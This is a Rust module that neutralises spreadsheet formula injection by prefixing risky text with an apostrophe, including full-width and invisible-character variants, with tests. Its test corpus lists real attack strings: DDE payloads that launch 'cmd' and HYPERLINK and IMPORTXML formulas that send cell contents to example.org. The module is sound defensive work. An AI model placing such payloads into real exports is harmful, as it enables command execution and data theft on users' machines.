//! Formula injection made harmless (S-13; ASVS 1.2.10): a text that a spreadsheet would take for a formula gets a leading `'`.

/// What a formula can begin with, the full-width forms included, which spreadsheets in Asian locales take as well.
const STARTS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// Whether a spreadsheet could take this text for a formula. Blanks and marks without a width before the sign do not help it:
/// some programs trim them.
#[must_use]
pub fn is_formula(text: &str) -> bool {
    text.starts_with(STARTS)
        || text
            .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c))
            .starts_with(STARTS)
}

/// Characters that are not drawn: Unicode's Default_Ignorable_Code_Point, and the formats (Cf) outside of it that stand alone.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{890}'..='\u{891}' | '\u{8e2}'
        | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}'
        | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// The text as a spreadsheet may get it.
#[must_use]
pub fn neutral(text: &str) -> std::borrow::Cow<'_, str> {
    if is_formula(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Texts with which spreadsheets have been attacked.
    pub const CORPUS: [&str; 31] = [
        "=1+1",
        "=HYPERLINK(\"http://example.org/?x=\"&A1,\"here\")",
        "=cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(CONCAT(\"http://example.org/?\",A2),\"//a\")",
        "+1+1",
        "+cmd|' /C notepad'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\0=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{ff0d}1+1",
        "\u{ff20}SUM(1)",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{202e}=1+1",
        "\u{61c}=1+1",
        "\u{ad}=1+1",
        "\u{180e}\u{2064}=1+1",
        "\u{fe0f}@SUM(1)",
        "\u{e0041} \u{61c}+1",
        "=\"\",\"\"\r\n=1+1",
    ];

    #[test]
    fn s13_the_corpus_of_formulas_is_neutralised() {
        for text in CORPUS {
            let safe = neutral(text);
            assert_eq!(safe, format!("'{text}"), "{text:?}");
            assert!(!is_formula(&safe));
        }
    }

    #[test]
    fn d21_no_invisible_character_hides_a_formula() {
        let invisible = (0..=0x10_ffff)
            .filter_map(char::from_u32)
            .filter(|c| is_invisible(*c));
        let mut count = 0;
        for c in invisible {
            count += 1;
            for text in [format!("{c}=1+1"), format!("{c} {c}@SUM(1)")] {
                assert_eq!(neutral(&text), format!("'{text}"), "{:x}", u32::from(c));
            }
        }
        assert!(count > 4_000, "{count}");
        assert!(
            !is_invisible('ห') && !is_invisible('\u{e34}'),
            "Thai vowels are drawn"
        );
    }

    #[test]
    fn what_is_no_formula_stays_as_it_is() {
        for text in [
            "",
            "117-with-qr.zip",
            "1+1",
            "a=b",
            "'quoted",
            "Room 12, morning session",
            "ห้อง 12",
            "“=”",
        ] {
            assert_eq!(neutral(text), text);
        }
    }

    proptest! {
        #[test]
        fn s13_no_text_comes_out_as_a_formula(text in "\\PC{0,30}|[=+@\\-\t\r\0 ]{0,4}.{0,6}") {
            let safe = neutral(&text);
            prop_assert!(!safe.starts_with(STARTS));
            prop_assert!(safe == text || safe.strip_prefix('\'') == Some(text.as_str()));
        }
    }
}
